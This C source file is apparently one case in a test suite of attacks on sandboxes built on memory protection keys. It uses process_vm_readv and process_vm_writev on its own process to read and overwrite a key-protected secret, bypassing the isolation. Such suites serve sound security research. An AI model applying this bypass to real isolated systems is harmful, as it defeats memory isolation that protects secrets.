/* B3: the kernel's copy between two processes, used on oneself: it looks at page
 * protection, not at protection keys.
 *
 * Source: [PKU Pitfalls], [process_vm_readv(2)].
 */
#include <sys/uio.h>
#include <unistd.h>
#include "attack.h"

static unsigned char bytes[SECRET_BYTES] = "written by process_vm_writev";

static struct iovec own(void) { return (struct iovec){bytes, sizeof bytes}; }
static struct iovec guarded(void) { return (struct iovec){(void *)target.secret, SECRET_BYTES}; }

static void readv_self(void) {
    struct iovec here = own(), there = guarded();
    TRY("process_vm_readv", process_vm_readv(getpid(), &here, 1, &there, 1, 0));
    attack_hand_in(bytes, sizeof bytes);
}

static void writev_self(void) {
    struct iovec here = own(), there = guarded();
    TRY("process_vm_writev", process_vm_writev(getpid(), &here, 1, &there, 1, 0));
}

const struct attack attacks[] = {
    {.variant = "readv", .attack = readv_self},
    {.variant = "writev", .attack = writev_self},
    {0},
};
